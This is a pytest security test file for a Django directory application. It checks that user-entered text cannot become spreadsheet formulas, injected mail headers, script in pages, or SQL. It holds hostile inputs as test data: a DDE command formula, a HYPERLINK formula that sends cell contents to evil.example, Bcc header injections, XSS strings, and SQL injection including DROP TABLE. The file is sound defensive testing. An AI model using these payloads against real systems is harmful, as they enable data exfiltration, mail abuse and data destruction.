"""What people write runs nowhere: in no spreadsheet, no head of a mail, no page."""

import csv
import io
import zipfile
from typing import Any

import pytest
from django.core import mail
from django.test import Client
from openpyxl import load_workbook

from handinhand.accounts.enums import Role
from handinhand.core import audit
from handinhand.core.models import OutgoingMail
from handinhand.core.spreadsheet import safe_cell
from handinhand.directory.models import Organisation
from handinhand.directory.services import asking, editing
from tests.accounts.make import link_in, make_person, signed_in
from tests.directory.make import TODAY, make_offer

pytestmark = pytest.mark.django_db
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\x01=1+1",
    "=cmd|'/C calc'!A0", '=HYPERLINK("https://evil.example/?x="&A1;"Preis")', "＝1+1", "＠SUM(1)",
]  # fmt: skip
STARTS = tuple("=+-@＝＋－＠\t\r\n")
LINE_BREAKS = ["\n", "\r\n", "\r", "\u2028", "\x0b", "\x85"]
EVIL_NAME = "Verein{0}Bcc: alle@evil.example{0}{0}<script>"
formula = pytest.mark.parametrize("text", FORMULAS)


def is_harmless(cell: str) -> bool:
    return not cell.lstrip(" \0").startswith(STARTS)


@formula
def test_a_cell_starts_no_formula(text: str) -> None:
    assert is_harmless(safe_cell(text))


@formula
def test_the_audit_as_a_file_runs_nothing(text: str) -> None:
    offer = make_offer()
    audit.record("directory.offer_changed", offer, by=None, reason=text, before={"name": text})
    answer = signed_in(make_person(Role.AUDITOR)).get("/intern/vorgaenge/export.csv")
    rows = list(csv.reader(io.StringIO(b"".join(answer).decode("utf-8-sig"), newline="")))
    assert len(rows) >= 3
    assert all(is_harmless(cell) for row in rows for cell in row)


@formula
@pytest.mark.parametrize("door", ["/intern/eintraege/", "/de/suche/"])
def test_lists_as_files_run_nothing(text: str, door: str) -> None:
    texts = {"de": {"summary": text.strip(), "note": text.strip()}}
    hours = f"{text.strip()} Stunden"
    facts = {"phone": "+49 381 1", "hours_text": hours, "texts": texts}
    offer = editing.change_offer(key="psyc-0013", facts=facts, by=None, on=TODAY)
    asked = {"q": offer.name}
    client = signed_in(make_person(Role.DIRECTORY_STEWARD))
    found = b"".join(client.get(f"{door}export.csv", asked))
    rows = list(csv.reader(io.StringIO(found.decode("utf-8-sig"), newline="")))
    assert any(cell.endswith(" Stunden") for row in rows for cell in row)
    assert all(is_harmless(cell) for row in rows for cell in row)
    book = b"".join(client.get(f"{door}export.xlsx", asked))
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(book)).active
    assert not [one for row in sheet.iter_rows() for one in row if one.data_type == "f"]


def headers_are_ours(messages: list[Any]) -> bool:
    """Tell whether every mail goes to whom it is written to, with no header but ours."""
    known = {
        "content-type", "mime-version", "subject", "from", "to", "date", "message-id",
        "content-language", "auto-submitted", "list-unsubscribe", "list-unsubscribe-post",
    }  # fmt: skip
    for one in messages:
        message = one.message()
        if {name.lower() for name in message} - known or "evil.example" in one.recipients():
            return False
        if len(str(message["subject"]).splitlines()) > 1:
            return False
    return bool(messages)


@pytest.mark.parametrize("sign", LINE_BREAKS)
def test_names_with_line_breaks_stay_in_the_subject(sign: str, jobs_at_once: None) -> None:
    """Of an entry and of an organisation, in the mails that go to many."""
    offer = make_offer(name=EVIL_NAME.format(sign)[:200], email="post@verein.example")
    Organisation.objects.filter(pk=offer.organisation_id).update(name=EVIL_NAME.format(sign))
    offer.check_again_by = TODAY
    offer.save()
    assert asking.run(TODAY).asked
    assert headers_are_ours(mail.outbox)


@pytest.mark.parametrize("sign", LINE_BREAKS)
def test_the_name_of_who_invites_stays_in_the_subject(sign: str, jobs_at_once: None) -> None:
    operator = make_person(Role.OPERATOR)
    client = signed_in(operator)
    client.post("/konto/", {"name": EVIL_NAME.format(sign), "language": "de"})
    form = {"email": "neu@example.org", "language": "de", "role": "auditor"}
    client.post("/intern/personen/einladen/", form)
    assert headers_are_ours(mail.outbox)
    assert link_in(mail.outbox[-1])


@pytest.mark.parametrize("sign", LINE_BREAKS)
@pytest.mark.parametrize(
    ("path", "field", "more"),
    [
        ("/konto/passwort/vergessen/", "email", {}),
        ("/intern/personen/einladen/", "email", {"language": "de", "role": "auditor"}),
        ("/konto/mail/", "email", {"action_add": ""}),
    ],
)
def test_an_address_with_a_line_break_is_none(
    sign: str, path: str, field: str, more: dict[str, str]
) -> None:
    client = signed_in(make_person(Role.OPERATOR))
    address = f"opfer@example.org{sign}Bcc: alle@evil.example"
    assert client.post(path, {**more, field: address}).status_code in {200, 422, 302}
    assert not OutgoingMail.objects.filter(to__contains="evil").exists()
    assert not [one for one in mail.outbox if "evil.example" in str(one.recipients())]


def test_what_people_write_is_text_in_every_page() -> None:
    """Names, notes and questions come back escaped, also inside of attributes and JSON."""
    nasty = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>"
    offer = make_offer(
        name=f"Zauberwort {nasty}"[:200], hours_text=nasty,
        texts={"de": {"summary": nasty, "note": nasty}},
    )  # fmt: skip
    client = signed_in(make_person(Role.DIRECTORY_STEWARD))
    for path in (
        f"/de/angebot/{offer.key}/",
        f"/de/angebot/{offer.key}/melden/",
        "/de/suche/?q=Zauberwort",
        "/de/suche/druck/?q=Zauberwort",
        f"/ar/suche/?q={nasty}&ort={nasty}&seite={nasty}",
        f"/intern/eintraege/?q={nasty}",
        f"/intern/eintraege/{offer.key}/",
        f"/intern/eintraege/{offer.key}/aendern/",
        f"/intern/vorgaenge/?q={nasty}",
        f"/konto/anmelden/?next={nasty}",
    ):
        page = client.get(path).content.decode()
        assert "<script>alert" not in page, path
        assert "<img src=x" not in page, path


def test_a_question_cannot_write_into_the_database() -> None:
    """The database gets values beside the question, never inside of it."""
    for text in ("' OR 1=1 --", "'; DROP TABLE directory_offer; --", '" UNION SELECT 1'):
        for path in (f"/de/suche/?q={text}", f"/api/search?q={text}", f"/de/suche/?ort={text}"):
            assert Client().get(path).status_code == 200
